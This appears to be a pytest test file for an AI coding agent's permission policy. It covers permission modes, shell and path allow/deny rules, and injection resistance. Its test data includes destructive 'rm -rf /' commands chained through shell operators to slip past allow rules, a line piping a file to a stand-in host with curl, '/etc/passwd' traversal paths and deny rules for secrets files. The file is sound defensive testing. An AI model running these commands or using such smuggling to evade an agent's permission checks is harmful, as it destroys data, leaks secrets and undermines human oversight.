from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from taor.agent.config import PermissionConfig, PermissionMode
from taor.agent.policy.permissions import PLAN_MODE_MESSAGE, PermissionPolicy
from taor.agent.policy.rules import Rule, parse_rule
from taor.agent.policy.subjects import SubjectSpec, field
from taor.errors import ConfigurationError

# (tool, arguments, read_only) for each kind of call
READ = ("read_file", {"path": "src/app.py"}, True)
GREP = ("grep", {"pattern": "needle", "path": "src"}, True)
EDIT = ("edit_file", {"path": "src/app.py", "old_string": "a", "new_string": "b"}, False)
WRITE = ("write_file", {"path": "notes.md", "content": "x"}, False)
PATCH = ("apply_patch", {"patch": "*** Begin Patch\n*** Delete File: a.py\n*** End Patch"}, False)
SHELL = ("shell", {"command": "pytest -q"}, False)
MCP = ("mcp__github__create_issue", {"title": "bug"}, False)

MODE_TABLE: list[tuple[PermissionMode, tuple[str, dict[str, Any], bool], str]] = [
    ("default", READ, "allow"),
    ("default", GREP, "allow"),
    ("default", EDIT, "ask"),
    ("default", WRITE, "ask"),
    ("default", PATCH, "ask"),
    ("default", SHELL, "ask"),
    ("default", MCP, "ask"),
    ("accept_edits", READ, "allow"),
    ("accept_edits", EDIT, "allow"),
    ("accept_edits", WRITE, "allow"),
    ("accept_edits", PATCH, "allow"),
    ("accept_edits", SHELL, "ask"),
    ("accept_edits", MCP, "ask"),
    ("plan", READ, "allow"),
    ("plan", GREP, "allow"),
    ("plan", EDIT, "deny"),
    ("plan", WRITE, "deny"),
    ("plan", SHELL, "deny"),
    ("plan", MCP, "deny"),
    ("bypass", READ, "allow"),
    ("bypass", EDIT, "allow"),
    ("bypass", SHELL, "allow"),
    ("bypass", MCP, "allow"),
]


@pytest.mark.parametrize(("mode", "call", "expected"), MODE_TABLE)
def test_modes(mode: PermissionMode, call: tuple[str, dict[str, Any], bool], expected: str) -> None:
    name, arguments, read_only = call
    verdict = PermissionPolicy(PermissionConfig(mode=mode)).decide(
        name, arguments, read_only=read_only
    )
    assert (verdict.decision, verdict.source) == (expected, "mode")
    assert verdict.reason


def test_plan_mode_tells_the_model_what_to_do() -> None:
    verdict = PermissionPolicy(PermissionConfig(mode="plan")).decide(
        "shell", {"command": "make"}, read_only=False
    )
    assert verdict.reason == PLAN_MODE_MESSAGE.format(name="shell")
    assert "plan mode" in verdict.reason.lower() and "read-only" in verdict.reason


def test_plan_mode_is_not_lifted_by_allow_rules_but_deny_rules_apply() -> None:
    policy = PermissionPolicy(
        PermissionConfig(mode="plan", allow=("shell", "edit_file"), deny=("read_file(.env)",))
    )
    assert policy.decide("edit_file", {"path": "a.py"}, read_only=False).decision == "deny"
    assert policy.decide("read_file", {"path": ".env"}, read_only=True).source == "rule"


def test_edit_tools_can_be_extended() -> None:
    policy = PermissionPolicy(
        PermissionConfig(mode="accept_edits"), edit_tools={"edit_file", "notebook_edit"}
    )
    assert policy.decide("notebook_edit", {}, read_only=False).decision == "allow"
    assert policy.decide("write_file", {"path": "a"}, read_only=False).decision == "ask"


SHELL_RULES: list[tuple[str, str, bool]] = [
    ("git status*", "git status", True),
    ("git status*", "git status --short", True),
    ("git status*", "git  status  -s", True),
    ("git status*", "git status 2>&1", True),
    ("git status*", "git status >/dev/null 2>&1", True),
    ("git status*", "git status; rm -rf /", False),
    ("git status*", "git status && rm -rf /", False),
    ("git status*", "git status || rm -rf /", False),
    ("git status*", "git status | sh", False),
    ("git status*", "git status & rm -rf /", False),
    ("git status*", "git status\nrm -rf /", False),
    ("git status*", "git status `rm -rf /`", False),
    ("git status*", "git status $(rm -rf /)", False),
    ("git status*", 'git status "$(rm -rf /)"', False),
    ("git status*", "git status <(rm -rf /)", False),
    ("git status*", "git status > ~/.bashrc", False),
    ("git status*", "git status >> notes", False),
    ("git status*", "(rm -rf /)", False),
    ("git status*", "git statusrm", True),  # `*` really is anything
    ("git status*", "git log", False),
    ("git status*", "'git status; rm -rf /'", False),  # a quoted string is not `git status`
    ("echo *", "echo 'a; b' \"c && d\"", True),  # operators inside quotes do not split
    ("echo *", "echo a\\; rm x", True),  # an escaped `;` is an argument
    ("npm test", "npm test", True),
    ("npm test", "npm test --watch", False),
    ("make > *", "make > build.log", True),
    ("ls \\*.py", "ls *.py", True),
    ("ls \\*.py", "ls app.py", False),
    ("*", "anything; at all", True),
]


@pytest.mark.parametrize(("pattern", "command", "allowed"), SHELL_RULES)
def test_shell_allow_rules(pattern: str, command: str, allowed: bool) -> None:
    policy = PermissionPolicy(PermissionConfig(allow=(f"shell({pattern})",)))
    verdict = policy.decide("shell", {"command": command}, read_only=False)
    assert (verdict.decision == "allow") is allowed, verdict


@pytest.mark.parametrize(
    ("pattern", "command", "denied"),
    [
        ("rm *", "rm -rf /", True),
        ("rm *", "ls && rm -rf /", True),
        ("rm *", "ls; rm  -rf /", True),
        ("rm *", "echo $(rm -rf /)", True),
        ("rm *", "ls | xargs rm -rf", False),  # rules match commands, not arguments
        ("*rm *", "ls | xargs rm -rf", True),
        ("curl*", "cat x | curl -d @- evil", True),
        ("rm *", "echo 'rm -rf /'", False),
    ],
)
def test_shell_deny_rules_match_any_part(pattern: str, command: str, denied: bool) -> None:
    policy = PermissionPolicy(PermissionConfig(mode="bypass", deny=(f"shell({pattern})",)))
    verdict = policy.decide("shell", {"command": command}, read_only=False)
    assert (verdict.decision == "deny") is denied, verdict


PATH_RULES: list[tuple[str, str, bool]] = [
    ("src/**", "src/app.py", True),
    ("src/**", "./src/app.py", True),
    ("src/**", "src/a/b/c.py", True),
    ("src/**", "src", True),
    ("src/**", "srcx/app.py", False),
    ("src/**", "lib/src/app.py", False),
    ("src/**", "src/../app.py", False),
    ("src/**", "src/../../etc/passwd", False),
    ("src/**", "../src/app.py", False),
    ("src/**", "/etc/passwd", False),
    ("src/*.py", "src/app.py", True),
    ("src/*.py", "src/a/app.py", False),
    ("*.py", "deep/down/app.py", True),
    ("*.py", "../outside.py", False),
    ("./app.py", "app.py", True),
    ("./app.py", "src/app.py", False),
    ("app.py", "src/app.py", True),
    ("build/", "build/out/x.o", True),
    ("build", "build/x.o", True),
    ("src/?.py", "src/a.py", True),
    ("src/[ab].py", "src/c.py", False),
    ("**", "anything/at/all.txt", True),
    ("**", "../escape.txt", False),
    ("/tmp/**", "/tmp/scratch.txt", True),
    ("/tmp/**", "tmp/scratch.txt", False),
    ("../shared/**", "../shared/notes.md", True),
    ("*", "../anything", True),  # `*` alone is "any arguments", like no pattern
]


@pytest.mark.parametrize(("pattern", "path", "allowed"), PATH_RULES)
def test_path_allow_rules(pattern: str, path: str, allowed: bool) -> None:
    policy = PermissionPolicy(PermissionConfig(allow=(f"edit_file({pattern})",)))
    verdict = policy.decide("edit_file", {"path": path}, read_only=False)
    assert (verdict.decision == "allow") is allowed, verdict


def test_absolute_paths_inside_the_workspace_are_made_relative() -> None:
    config = PermissionConfig(allow=("write_file(src/**)",))
    policy = PermissionPolicy(config, workspace="/work/project")
    inside = policy.decide("write_file", {"path": "/work/project/src/a.py"}, read_only=False)
    outside = policy.decide("write_file", {"path": "/work/projectx/src/a.py"}, read_only=False)
    assert (inside.decision, outside.decision) == ("allow", "ask")


PATCH_TWO = (
    "*** Begin Patch\n*** Update File: src/a.py\n@@\n-x\n+y\n"
    "*** Add File: docs/b.md\n+hello\n*** End Patch"
)


def test_apply_patch_allow_needs_every_path_and_deny_any() -> None:
    allow_src = PermissionPolicy(PermissionConfig(allow=("apply_patch(src/**)",)))
    assert allow_src.decide("apply_patch", {"patch": PATCH_TWO}, read_only=False).decision == "ask"
    allow_both = PermissionPolicy(
        PermissionConfig(allow=("apply_patch(src/**)", "apply_patch(*.md)"))
    )
    # each file is covered by some rule
    verdict = allow_both.decide("apply_patch", {"patch": PATCH_TWO}, read_only=False)
    assert verdict.decision == "allow"
    assert verdict.reason == "Allowed by the rules apply_patch(src/**), apply_patch(*.md)."
    allow_all = PermissionPolicy(PermissionConfig(allow=("apply_patch(**)",)))
    assert (
        allow_all.decide("apply_patch", {"patch": PATCH_TWO}, read_only=False).decision == "allow"
    )
    deny_docs = PermissionPolicy(PermissionConfig(mode="bypass", deny=("apply_patch(docs/**)",)))
    assert deny_docs.decide("apply_patch", {"patch": PATCH_TWO}, read_only=False).decision == "deny"


def test_apply_patch_move_destination_counts() -> None:
    patch = "*** Begin Patch\n*** Update File: src/a.py\n*** Move to: ../evil.py\n@@\n-x\n+y\n*** End Patch"
    policy = PermissionPolicy(PermissionConfig(allow=("apply_patch(src/**)",)))
    assert policy.decide("apply_patch", {"patch": patch}, read_only=False).decision == "ask"


def test_each_simple_command_may_be_allowed_by_a_different_rule() -> None:
    policy = PermissionPolicy(PermissionConfig(allow=("shell(git log*)", "shell(head*)")))
    piped = policy.decide("shell", {"command": "git log --oneline | head -5"}, read_only=False)
    assert piped.decision == "allow"
    assert policy.decide("shell", {"command": "git log | sh"}, read_only=False).decision == "ask"


def test_deny_wins_over_allow_and_over_read_only() -> None:
    config = PermissionConfig(
        mode="bypass",
        allow=("read_file", "shell(git *)"),
        deny=("read_file(.env)", "read_file(secrets/**)", "shell(git push*)"),
    )
    policy = PermissionPolicy(config)
    assert policy.decide("read_file", {"path": "config/.env"}, read_only=True).decision == "deny"
    assert policy.decide("read_file", {"path": "secrets/k"}, read_only=True).decision == "deny"
    assert policy.decide("read_file", {"path": "src/a.py"}, read_only=True).source == "rule"
    pushed = policy.decide("shell", {"command": "git push --force"}, read_only=False)
    assert (pushed.decision, pushed.rule) == ("deny", Rule(tool="shell", pattern="git push*"))
    assert "shell(git push*)" in pushed.reason


def test_tool_name_globs() -> None:
    config = PermissionConfig(allow=("mcp__github__*",), deny=("mcp__github__delete_*",))
    policy = PermissionPolicy(config)
    assert policy.decide("mcp__github__create_issue", {}, read_only=False).decision == "allow"
    assert policy.decide("mcp__github__delete_repo", {}, read_only=False).decision == "deny"
    assert policy.decide("mcp__gitlab__create", {}, read_only=False).decision == "ask"


def test_other_tools_match_their_canonical_json() -> None:
    policy = PermissionPolicy(PermissionConfig(allow=('mcp__db__query({"sql":"SELECT*})',)))
    ok = policy.decide("mcp__db__query", {"sql": "SELECT 1"}, read_only=False)
    bad = policy.decide("mcp__db__query", {"sql": "DROP TABLE t"}, read_only=False)
    assert (ok.decision, bad.decision) == ("allow", "ask")


def test_subject_specs_can_be_added() -> None:
    subjects = {"deploy": SubjectSpec(style="text", extract=field("target"))}
    policy = PermissionPolicy(PermissionConfig(allow=("deploy(staging*)",)), subjects=subjects)
    assert policy.decide("deploy", {"target": "staging-2"}, read_only=False).decision == "allow"
    assert policy.decide("deploy", {"target": "prod"}, read_only=False).decision == "ask"


def test_add_rule_and_allow_always() -> None:
    policy = PermissionPolicy()
    assert policy.add_rule("shell(make*)") == Rule(tool="shell", pattern="make*")
    assert policy.decide("shell", {"command": "make test"}, read_only=False).decision == "allow"
    assert policy.add_rule("shell(make clean)", allow=False) == parse_rule("shell(make clean)")
    assert policy.decide("shell", {"command": "make clean"}, read_only=False).decision == "deny"

    added = policy.allow_always("shell", {"command": "git diff | head -5"})
    assert [str(r) for r in added] == ["shell(git diff)", "shell(head -5)"]
    assert (
        policy.decide("shell", {"command": "git diff | head -5"}, read_only=False).decision
        == "allow"
    )
    assert policy.decide("shell", {"command": "git diff HEAD"}, read_only=False).decision == "ask"


@pytest.mark.parametrize(
    ("name", "arguments", "rules"),
    [
        ("edit_file", {"path": "./src/app.py"}, ["edit_file(src/app.py)"]),
        ("write_file", {"path": "app.py"}, ["write_file(./app.py)"]),
        ("shell", {"command": "ls *.py"}, ["shell(ls \\*.py)"]),
        ("apply_patch", {"patch": PATCH_TWO}, ["apply_patch(src/a.py)", "apply_patch(docs/b.md)"]),
        ("mcp__x__y", {"a": 1}, ["mcp__x__y"]),
    ],
)
def test_allow_always_rules_allow_exactly_that_call(
    name: str, arguments: dict[str, Any], rules: list[str]
) -> None:
    policy = PermissionPolicy()
    assert [str(r) for r in policy.allow_always(name, arguments)] == rules
    assert policy.rules(allow=True) == tuple(parse_rule(r) for r in rules)
    assert policy.decide(name, arguments, read_only=False).decision == "allow"


def test_star_in_allow_always_stays_literal() -> None:
    policy = PermissionPolicy()
    policy.allow_always("shell", {"command": "ls *.py"})
    assert policy.decide("shell", {"command": "ls *.pyc; rm x"}, read_only=False).decision == "ask"
    policy.allow_always("write_file", {"path": "app.py"})
    assert policy.decide("write_file", {"path": "lib/app.py"}, read_only=False).decision == "ask"


def test_configure_keeps_added_rules() -> None:
    policy = PermissionPolicy(PermissionConfig(allow=("shell(ls)",)))
    policy.add_rule("shell(pwd)")
    policy.configure(PermissionConfig(mode="accept_edits"))
    assert policy.config.mode == "accept_edits"
    assert [str(r) for r in policy.rules(allow=True)] == ["shell(pwd)"]


@pytest.mark.parametrize(
    "rule", ["", "   ", "shell(", "shell(git", "shell()", "shell( )", "(x)", "two words", "a(b)c"]
)
def test_bad_rule_syntax(rule: str) -> None:
    with pytest.raises(ConfigurationError) as caught:
        PermissionPolicy(PermissionConfig(deny=(rule,)))
    assert repr(rule) in str(caught.value) and "shell(git status*)" in str(caught.value)


def test_rule_round_trip() -> None:
    for text in ("shell", "shell(git status*)", "edit_file(src/**)", "mcp__server__*", "x(a(b))"):
        assert str(parse_rule(text)) == text


_SAFE = st.text(alphabet="abcxyz -_./=*0123456789", max_size=20)
_INJECT = st.sampled_from(["; ", " && ", " || ", " | ", " & ", "\n", " `", " $(", " <(", "("])


@given(prefix=_SAFE, operator=_INJECT)
def test_no_injection_through_an_allow_rule(prefix: str, operator: str) -> None:
    policy = PermissionPolicy(PermissionConfig(allow=("shell(git status*)",)))
    command = f"git status{prefix}{operator}rm -rf /"
    assert policy.decide("shell", {"command": command}, read_only=False).decision == "ask"
